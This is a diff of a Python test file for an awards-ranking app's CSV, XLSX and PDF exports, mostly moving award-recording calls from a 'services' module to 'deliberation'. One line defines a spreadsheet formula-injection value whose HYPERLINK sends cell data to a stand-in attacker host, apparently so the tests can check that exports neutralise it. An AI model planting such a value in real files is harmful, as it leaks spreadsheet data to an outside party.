@@ -9,8 +9,9 @@ from pypdf import PdfReader
 from sqlalchemy import select
 
 from app.judging.models import CriterionScore, ScoreSheet
-from app.ranking import services
+from app.ranking import deliberation
 from app.ranking.exports import FONTS_DIR, ReportFetcher, ReportFileRefused, neutralise
+from app.ranking.scores import load_scores
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 EXPORTS = ("ranking.csv", "ranking.xlsx", "sheets.csv", "sheets.xlsx", "jury-report.pdf")
@@ -176,14 +177,14 @@ def test_sheets_xlsx_keeps_comment_as_text(client, auth, hostile):
 def test_jury_report_pdf_holds_ranking_decisions_and_justification(client, auth, small, app, db):
     why = "The jury preferred the steadier scores of Demo Municipality 4 (Juror Two disagreed)."
     decisions = [
-        services.AwardDecision(small.id_of("A"), "prize", 1, "Obrnice brings Roma and non-Roma together."),
-        services.AwardDecision(small.id_of("B"), "prize", 2, "Heraklion fights illiteracy."),
-        services.AwardDecision(small.id_of("D"), "prize", 3, "A steady project."),
+        deliberation.AwardDecision(
+            small.id_of("A"), "prize", 1, "Obrnice brings Roma and non-Roma together."
+        ),
+        deliberation.AwardDecision(small.id_of("B"), "prize", 2, "Heraklion fights illiteracy."),
+        deliberation.AwardDecision(small.id_of("D"), "prize", 3, "A steady project."),
     ]
     with app.test_request_context():
-        services.record_awards(
-            small.edition, services.load_scores(small.edition), decisions, why, small.organiser
-        )
+        deliberation.record_awards(small.edition, load_scores(small.edition), decisions, why, small.organiser)
     db.session.commit()
     auth.login(small.organiser.email)
 
